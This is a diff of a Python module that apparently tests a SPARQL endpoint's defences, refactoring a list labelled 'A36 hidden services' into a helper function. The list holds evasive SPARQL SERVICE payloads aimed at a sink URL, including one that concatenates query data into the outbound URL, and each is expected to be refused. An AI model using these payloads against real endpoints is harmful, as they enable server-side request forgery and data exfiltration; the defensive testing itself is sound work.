@@ -11,6 +11,36 @@ def _service(place: str, before: str = "SERVICE", inside: str = "") -> str:
     return " ".join(("SELECT * WHERE {", inside, before, place, _PATTERN, "}"))
 
 
+def _hidden_services(sink: str) -> list[Attack]:
+    queries = [
+        Attack("A36", text, _REFUSED)
+        for text in (
+            _service(f"<{sink}>", "SERVICE SILENT"),
+            _service(f"<{sink}>", "service silent"),
+            _service(f"<{sink}>", "SERVICE#\n"),
+            _service("?where", inside=f"VALUES ?where {{ <{sink}> }}"),
+            _service(
+                "?where",
+                inside=f"?s <urn:q> ?x BIND(IRI(CONCAT('{sink}/?x=', ?x)) AS ?where)",
+            ),
+            f"PREFIX a: <{sink}/> " + _service("a:b"),
+            f"BASE <{sink}/> " + _service("<b>"),
+            _service(f"<{sink}>", "FILTER EXISTS { SERVICE") + " }",
+            "SELECT * { { SELECT * { SERVICE <" + sink + "> { ?a ?b ?c } } } }",
+            "CONSTRUCT WHERE { SERVICE <" + sink + "> { ?a ?b ?c } }",
+            "ASK { ?s ?p true.SERVICE<" + sink + ">{ ?a ?b ?c } }",
+        )
+    ]
+    updates = [
+        Attack("A36", text, _REFUSED, "update")
+        for text in (
+            "INSERT { ?s ?p ?o } WHERE { SERVICE <" + sink + "> { ?s ?p ?o } }",
+            "DELETE WHERE { SERVICE <" + sink + "> { ?s ?p ?o } }",
+        )
+    ]
+    return queries + updates
+
+
 def classes(port: int, own: int) -> dict[str, list[Attack]]:
     """Give the payloads of each class.
 
@@ -29,32 +59,7 @@ def classes(port: int, own: int) -> dict[str, list[Attack]]:
     ]
     return {
         "A35 services": [Attack("A35", _service(f"<{url}>"), _REFUSED) for url in urls],
-        "A36 hidden services": [
-            Attack("A36", text, _REFUSED)
-            for text in (
-                _service(f"<{sink}>", "SERVICE SILENT"),
-                _service(f"<{sink}>", "service silent"),
-                _service(f"<{sink}>", "SERVICE#\n"),
-                _service("?where", inside=f"VALUES ?where {{ <{sink}> }}"),
-                _service(
-                    "?where",
-                    inside=f"?s <urn:q> ?x BIND(IRI(CONCAT('{sink}/?x=', ?x)) AS ?where)",
-                ),
-                f"PREFIX a: <{sink}/> " + _service("a:b"),
-                f"BASE <{sink}/> " + _service("<b>"),
-                _service(f"<{sink}>", "FILTER EXISTS { SERVICE") + " }",
-                "SELECT * { { SELECT * { SERVICE <" + sink + "> { ?a ?b ?c } } } }",
-                "CONSTRUCT WHERE { SERVICE <" + sink + "> { ?a ?b ?c } }",
-                "ASK { ?s ?p true.SERVICE<" + sink + ">{ ?a ?b ?c } }",
-            )
-        ]
-        + [
-            Attack("A36", text, _REFUSED, "update")
-            for text in (
-                "INSERT { ?s ?p ?o } WHERE { SERVICE <" + sink + "> { ?s ?p ?o } }",
-                "DELETE WHERE { SERVICE <" + sink + "> { ?s ?p ?o } }",
-            )
-        ],
+        "A36 hidden services": _hidden_services(sink),
         "A37 loads": [
             Attack("A37", text, _REFUSED, "update")
             for text in (
